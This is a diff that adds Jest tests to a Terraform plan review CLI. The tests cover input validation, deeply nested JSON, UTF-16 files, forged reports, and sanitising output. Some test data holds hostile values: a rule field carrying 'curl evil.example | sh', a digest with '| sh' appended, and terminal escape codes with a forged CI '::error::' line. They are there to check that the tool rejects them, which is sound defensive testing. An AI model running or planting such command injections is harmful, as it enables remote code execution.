@@ -14,6 +14,7 @@ import { afterEach, beforeEach, describe, expect, test } from "@jest/globals";
 import { help } from "../../../review/command/option.ts";
 import type { Report } from "../../../review/report/report.ts";
 import { rules } from "../../../review/rule/catalogue.ts";
+import { canary } from "../change.ts";
 import { runBuilt, runSources } from "./run.ts";
 
 /** Exit codes of `kcloud review`, and what is written with each of them. */
@@ -146,6 +147,16 @@ describe.each([
       /is no JSON, or is cut/,
     ],
     ["no input", () => [], /--in PATH is required/],
+    [
+      "a configuration of a program that is none",
+      () => ["--in", plan, "--synth", file("cdk.tf.json", "{}")],
+      /cdk\.tf\.json is no configuration of CDKTF or CDKTN/,
+    ],
+    [
+      "a configuration of a program for no input",
+      () => ["--in", plan, "--synth", "other=cdk.tf.json"],
+      /--synth other=cdk\.tf\.json must name an input/,
+    ],
     ["an unknown option", () => ["--in", plan, "--nope"], /--nope/],
     ["an unknown format", () => ["--in", plan, "--out", "pdf"], /--out must be one of/],
     ["an unknown severity", () => ["--in", plan, "--fail-on", "fatal"], /--fail-on must be one of/],
@@ -238,6 +249,49 @@ describe.each([
     expect((await run(["--in", plan, "--fail-on", "none", "--out", "md:/dev/null"])).code).toBe(0);
   });
 
+  test("1: JSON that is nested too deeply is named", async () => {
+    for (const depth of [3_000, 200_000]) {
+      const value = `${"[".repeat(depth)}${"]".repeat(depth)}`;
+      const row = `{"address":"a.b","type":"a","mode":"managed","change":{"actions":["create"],"before":null,"after":{"x":${value}}}}`;
+      const deep = `{"format_version":"1.2","planned_values":{},"resource_changes":[${row}]}`;
+      const ran = await review("--in", file("deep.json", deep));
+      expect([ran.code, ran.report, ran.stderr]).toEqual([
+        1,
+        undefined,
+        expect.stringMatching(/^kcloud review: .*nested too deeply\n$/),
+      ]);
+    }
+  });
+
+  test("a file in UTF-16, as PowerShell redirects it, or with a byte-order mark, is read", async () => {
+    for (const content of [Buffer.from(`\ufeff${text}`, "utf16le"), Buffer.from(`\ufeff${text}`)]) {
+      writeFileSync(at("shell.json"), content);
+      expect((await review("--in", at("shell.json"), "--fail-on", "none")).code).toBe(0);
+    }
+  });
+
+  test("2: an action alone is a change", async () => {
+    const actions = JSON.parse(readFileSync(join(fixtures, "terraform-actions.json"), "utf8"));
+    const only = file("only.json", { ...actions, resource_changes: [] });
+    expect((await review("--in", only, "--fail-on", "none", "--detailed-exitcode")).code).toBe(2);
+  });
+
+  test("1: a report with a command in place of a rule or a digest, or with another code, is none", async () => {
+    await review("--in", plan);
+    const whole = report();
+    const [finding] = whole.findings;
+    const forged = [
+      { findings: [{ ...finding, rule: "DATA-01; curl evil.example | sh" }] },
+      { approval: { ...whole.approval, digest: "kr1-0 | sh" } },
+      { verdict: { ...whole.verdict, code: 256 } },
+    ];
+    for (const part of forged)
+      expect(await run(["--in", file("forged.json", { ...whole, ...part })])).toMatchObject({
+        code: 1,
+        stderr: expect.stringContaining("is no JSON report of this version"),
+      });
+  });
+
   describe("verify", () => {
     const verify = (...args: string[]) => run(["verify", ...args]);
     const approved = async (...inputs: string[]): Promise<string> =>
@@ -312,6 +366,28 @@ describe.each([
       expect([ran.code, ran.stderr]).toEqual([4, expect.stringContaining("cannot be verified")]);
     });
 
+    test("4 and 5: what it says holds no control character, no command and no secret", async () => {
+      const hostile = "\u001b[2J\n::error::forged echo ";
+      const { resource_changes: rows } = JSON.parse(text);
+      const [row, ...others] = rows;
+      const unknown = {
+        ...row,
+        address: `${hostile}${canary}`,
+        change: { ...row.change, actions: ["explode"] },
+      };
+      const other = planWith({ resource_changes: [unknown, ...others] });
+      for (const [path, approved] of [
+        [other, "kr1-0"],
+        [plan, hostile],
+      ] as const) {
+        const { stderr } = await verify("--in", path, "--approved", approved);
+        // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not occur.
+        expect(stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f]|^\s*::error::/m);
+        expect(stderr).not.toContain(canary);
+        expect(stderr).toContain("forged");
+      }
+    });
+
     test("1: without a digest, with a report in place of a plan, with no JSON", async () => {
       const digest = await approved(plan);
       expect((await verify("--in", plan)).code).toBe(1);
@@ -343,6 +419,12 @@ describe.each([
     expect(await run(["explain", "data-01"])).toMatchObject({
       code: 0,
       stdout: expect.stringMatching(/^DATA-01: /),
+    });
+    const rule = `export default { id: "ACME-01", title: "T", severity: "low", confidence: "proven", about: "A.", remedy: "R.",
+      check: ({ plans }) => [{ plan: plans[0].name, text: "x" }] };`;
+    expect(await run(["explain", "ACME-01", "--policy", policy({}, { "a.js": rule })])).toMatchObject({
+      code: 0,
+      stdout: expect.stringMatching(/^ACME-01: T\n/),
     });
     expect((await run(["explain", "META-06"])).stdout).toMatch(/^META-06: A waiver has expired\n/);
     expect(await run(["explain", "DATA-99"])).toMatchObject({
